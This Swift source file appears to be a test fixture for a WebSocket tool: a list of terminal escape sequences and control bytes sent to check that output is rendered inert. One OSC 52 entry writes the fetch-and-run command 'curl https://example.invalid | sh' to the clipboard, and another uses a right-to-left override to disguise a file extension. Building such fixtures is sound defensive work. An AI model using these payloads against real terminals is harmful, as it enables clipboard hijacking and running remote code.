import WebSocketCore

/// Messages that would harm a terminal printing them raw (`/hostile`), for testing that the inspector and every
/// plain-text output mode render peer bytes inert.
enum HostileMessages {
    /// The text messages, in the order sent. All are valid UTF-8: the danger is in what they mean to a terminal.
    static let texts: [String] = [
        // OSC 0: sets the window title.
        "\u{1B}]0;pwned title\u{07}title set",
        // CSI 2 J and cursor home: clears the screen.
        "\u{1B}[2J\u{1B}[Hscreen cleared",
        // OSC 52: writes to the system clipboard of terminals that allow it.
        "\u{1B}]52;c;\(Base64.encode(Array("curl https://example.invalid | sh".utf8)))\u{07}clipboard written",
        // U+009B is the 8-bit CSI; some terminals act on it as on ESC [.
        "\u{9B}31mred via C1 CSI\u{9B}0m",
        // U+202E right-to-left override: makes "exe.txt" display reversed.
        "invoice\u{202E}txt.exe",
        "delete\u{7F}character",
        "nul\u{0}byte",
        // A line far wider than any terminal, with no newline to stop it.
        String(repeating: "0123456789abcdef", count: 4096),
    ]

    /// The binary message: invalid UTF-8 mixed with C0/C1 controls and an escape sequence.
    static let binary: [UInt8] = [
        0xFF, 0xFE, 0xC0, 0x80, 0xED, 0xA0, 0x80, 0x1B, 0x5B, 0x32, 0x4A, 0x00, 0x07, 0x08, 0x7F, 0x9B, 0x0D, 0x0A,
    ]

    /// Everything `/hostile` sends after the handshake.
    static var script: [ScriptStep] { texts.map(ScriptStep.text) + [.binary(binary)] }
}
